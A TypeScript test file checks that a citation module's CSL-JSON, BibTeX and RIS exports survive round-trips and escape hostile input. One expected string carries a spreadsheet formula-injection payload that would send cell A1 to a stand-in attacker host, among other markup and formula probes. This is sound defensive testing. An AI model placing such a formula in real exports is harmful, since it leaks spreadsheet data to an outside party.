import { Cite } from '@citation-js/core'
import '@citation-js/plugin-bibtex'
import '@citation-js/plugin-ris'
import { expect, test } from 'vitest'
import { citeEvent, citeSource } from './cite-text.ts'
import { citeFormats } from './cite.ts'
import { sourcesCsl, type CslItem } from './csl.ts'
import { address, readStories } from '../tests/stories.ts'

const { hostile, all } = await readStories()
const read = (text: string) => new Cite(text).data[0] as Record<string, unknown> & { author?: Name[] }
const oneLine = (text: unknown) => String(text).replace(/\s+/g, ' ')

test.for(all)('a reference manager finds every source of %s in CSL-JSON', (story) => {
  for (const item of sourcesCsl(story[1])) expect(read(citeFormats['csl.json']([item]))).toMatchObject(item)
  const { data } = new Cite(JSON.stringify(sourcesCsl(story[1])))
  expect(data.map(({ id, title }) => [id, title])).toEqual(
    story[1].sources.map(({ id, title }) => [id, title]),
  )
})

test.for(all)('a BibTeX reader finds every source of %s', (story) => {
  for (const item of sourcesCsl(story[1])) {
    const found = read(citeFormats.bib([item]))
    expect(found.id).toBe(item.id)
    expect(oneLine(found['title'])).toBe(item.title)
    expect(found['URL']).toBe(item.URL?.replaceAll('{', '%7B').replaceAll('}', '%7D'))
    expect(found['issued']).toEqual(item.issued)
    expect(nameOf(found.author?.[0])).toEqual(item.author?.[0]?.literal)
  }
})

test.for(all)('an RIS reader finds every source of %s', (story) => {
  for (const item of sourcesCsl(story[1])) {
    const found = read(citeFormats.ris([item]))
    expect(found.id).toBe(item.id)
    expect(found['title']).toBe(item.title)
    expect(found['URL']).toBe(item.URL)
    // RIS calls the author of an article in a newspaper its reporter.
    expect(nameOf(found.author?.[0]) ?? found['reporter']).toEqual(item.author?.[0]?.literal)
    if (item.issued) expect(found).toHaveProperty('issued.date-parts.0.0', firstYear(item))
  }
})

test('a date is as exact in a reference manager as here', () => {
  const [item] = sourcesCsl(hostile)
  if (!item) throw new Error('The story has no source.')
  expect(item).toMatchObject({
    issued: { 'date-parts': [[2020, 10, 6]] },
    accessed: {
      'date-parts': [
        [2020, 10],
        [2020, 11],
      ],
    },
  })
  const month: CslItem = { ...item, issued: { 'date-parts': [[2020, 10]], circa: true } }
  expect(citeFormats.ris([month])).toContain('DA  - 2020/10/\r\n')
  expect(citeFormats.bib([month])).toContain('year = {2020},\n  date = {2020-10~},')
})

test('a ready-made text names everything that is known', () => {
  expect(hostile.events.map((event) => citeEvent(event, hostile, address))[0]).toBe(
    '“=HYPERLINK("https://evil.example/?"&A1,"click")”, in “R&amp;D <&> ]]> “Ω” =1+1”. M&S <Co>, "Ltd", 2 January 2026. https://example.org/name/events/a-formula/',
  )
  expect(hostile.sources.map((source) => citeSource(source, hostile))).toEqual([
    'O’Neil & {Sons}_1: “=1+1 “A” & <b> ]]> {x} 100%”. The <Paper> & Son, 6 October 2020. https://example.com/a_b~c?q=1&r={2}%20#top',
    'Ann <A> & B: “What she remembers”. Interview by <Us> & others, 7 October 2020. interview, not on the web: Tape {3} & <4>, with "us"',
    '“Nothing is known”. Nowhere, undated. https://example.com/undated',
    '“An old page”. Old & plain, 2001. http://example.com/old?a=1&b=2',
  ])
})

const firstYear = ({ issued }: CslItem) => issued && 'date-parts' in issued && issued['date-parts'][0]?.[0]

/** These formats cannot say that a name is one whole: a reader may take it apart at a comma. */
function nameOf(name: Name | undefined): string | undefined {
  return name && (name.literal ?? [name.family, name.given].filter(Boolean).join(', '))
}

type Name = { family?: string; given?: string; literal?: string }
